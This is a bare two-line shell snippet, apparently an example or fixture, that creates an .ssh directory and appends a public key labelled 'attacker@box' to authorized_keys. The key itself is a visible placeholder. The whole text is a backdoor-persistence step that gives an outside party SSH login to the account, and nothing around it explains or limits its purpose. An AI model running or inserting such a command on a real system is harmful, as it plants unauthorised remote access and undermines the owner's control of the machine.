mkdir -p ~/.ssh
echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQFakeKey attacker@box" >> ~/.ssh/authorized_keys
